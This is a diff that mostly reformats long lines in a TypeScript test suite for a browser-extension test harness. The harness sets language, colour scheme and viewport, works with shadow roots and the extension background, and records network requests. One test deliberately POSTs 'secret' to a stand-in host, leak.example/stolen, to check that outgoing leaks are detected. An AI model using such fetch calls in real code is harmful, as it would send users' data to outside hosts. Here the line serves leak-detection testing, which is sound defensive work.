@@ -21,7 +21,13 @@ describe.each(browserNames)('%s', (name) => {
     server = await start();
     const extension = await writeSampleExtension(join(folder, 'one'), name, '1.0.0');
     await writeSampleExtension(join(folder, 'two'), name, '1.1.0');
-    browser = await launch(name, { server, extension, colorScheme: 'dark', language: 'fr', viewport: { width: 1000, height: 700 } });
+    browser = await launch(name, {
+      server,
+      extension,
+      colorScheme: 'dark',
+      language: 'fr',
+      viewport: { width: 1000, height: 700 },
+    });
     page = await browser.open('https://chatgpt.com/');
   });
 
@@ -38,7 +44,9 @@ describe.each(browserNames)('%s', (name) => {
     expect(await page.evaluate(() => navigator.language)).toBe('fr');
     expect(await page.evaluate(() => matchMedia('(prefers-color-scheme: dark)').matches)).toBe(true);
     expect(await page.evaluate(() => [innerWidth, innerHeight])).toEqual([1000, 700]);
-    await expect(page.evaluate(() => Promise.reject(new Error('thrown in the page')))).rejects.toThrow('thrown in the page');
+    await expect(page.evaluate(() => Promise.reject(new Error('thrown in the page')))).rejects.toThrow(
+      'thrown in the page',
+    );
   });
 
   it('reads and clicks inside a closed root with the real mouse', async () => {
@@ -60,7 +68,9 @@ describe.each(browserNames)('%s', (name) => {
     await page.press('Tab');
     expect(await page.inShadow(CHIP, (root) => root.activeElement?.tagName)).toBe('BUTTON');
     await page.press('Enter');
-    expect(await page.waitInShadow(CHIP, (root) => root.querySelector('output')?.textContent?.startsWith('answer 2'))).toBe(true);
+    expect(
+      await page.waitInShadow(CHIP, (root) => root.querySelector('output')?.textContent?.startsWith('answer 2')),
+    ).toBe(true);
   });
 
   it('clicks, hovers, takes pictures and changes the size of an ordinary page', async () => {
@@ -123,7 +133,9 @@ describe.each(browserNames)('%s', (name) => {
   });
 
   it('speaks with the background and kills it', async () => {
-    expect(await browser.inBackground('return sample + " " + (await chrome.storage.local.get()).missing')).toBe('background undefined');
+    expect(await browser.inBackground('return sample + " " + (await chrome.storage.local.get()).missing')).toBe(
+      'background undefined',
+    );
     expect(await browser.backgroundRuns()).toBe(true);
     await browser.killBackground();
     expect(await browser.backgroundRuns()).toBe(false);
@@ -164,7 +176,9 @@ describe.each(browserNames)('%s', (name) => {
 
   it('records what leaves the browser: a deliberate leak is seen', async () => {
     server.clear();
-    await page.evaluate(() => fetch('https://leak.example/stolen?x=1', { method: 'POST', body: 'secret' }).catch(() => undefined));
+    await page.evaluate(() =>
+      fetch('https://leak.example/stolen?x=1', { method: 'POST', body: 'secret' }).catch(() => undefined),
+    );
     await page.evaluate(() => fetch('https://leak.example/again', { mode: 'no-cors' }).catch(() => undefined));
     await browser.inBackground('await fetch("https://leak.example/background").catch(() => undefined)');
     expect(browser.requests()).toContainEqual({ host: 'leak.example', path: '/stolen?x=1', method: 'POST' });
@@ -188,7 +202,9 @@ describe.each(browserNames)('%s', (name) => {
     expect(await page.evaluate(() => document.title)).toBe('A short history of a river');
     expect(browser.requests()).toContainEqual({ host: 'example.org', path: '/anything', method: 'GET' });
     await page.goto('https://chatgpt.com/hostile');
-    expect(await page.waitFor(() => (window as unknown as { fixture: { over: boolean; removed: string[] } }).fixture.over)).toBe(true);
+    expect(
+      await page.waitFor(() => (window as unknown as { fixture: { over: boolean; removed: string[] } }).fixture.over),
+    ).toBe(true);
     expect(await page.evaluate('fixture.removed')).toContain(CHIP);
     expect(await page.evaluate(hasChip, CHIP)).toBe(false);
     await page.goto('https://chatgpt.com/');
